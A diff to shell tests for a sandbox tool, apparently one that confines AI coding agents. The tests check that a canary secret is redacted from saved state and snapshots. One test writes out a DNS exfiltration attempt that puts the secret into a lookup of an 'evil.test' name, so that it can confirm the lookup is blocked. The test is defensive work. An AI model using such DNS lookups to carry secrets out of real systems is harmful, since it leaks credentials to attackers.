@@ -97,7 +97,7 @@ with_home() {
 	[[ "$output" == *"(\$ENVKEY): in its name, renamed"* ]]
 	[[ "$output" != *"$canary"* ]]
 	# nothing of it anywhere in aisb's state; the files keep their size, mode and shape
-	! grep -rlF "$canary" "$XDG_STATE_HOME" || false
+	no_trace "$canary" "$XDG_STATE_HOME"
 	grep -qx "declare -x ENVKEY=\"$(python3 -c 'import sys; print(("REDACTED"*9)[:int(sys.argv[1])])' ${#canary})\"" \
 		"$h/.codex/shell_snapshots/1.sh"
 	[ "$(stat -c %a "$h/.codex/shell_snapshots/1.sh")" = 644 ]
@@ -137,7 +137,7 @@ with_home() {
 	run env K="$canary" "$AISB" --allow example.com --env K -- sh -c 'getent hosts "$K.evil.test"; true'
 	[ "$status" -eq 0 ]
 	ls "$XDG_STATE_HOME"/aisb/egress/*.jsonl
-	! grep -rlF "$canary" "$XDG_STATE_HOME" "$(run_dir)" || false
+	no_trace "$canary" "$XDG_STATE_HOME" "$(run_dir)"
 	# control: the log has the denial, with the name's other labels
 	grep -q '"evil.test\|\.evil\.test' "$XDG_STATE_HOME"/aisb/egress/*.jsonl
 }
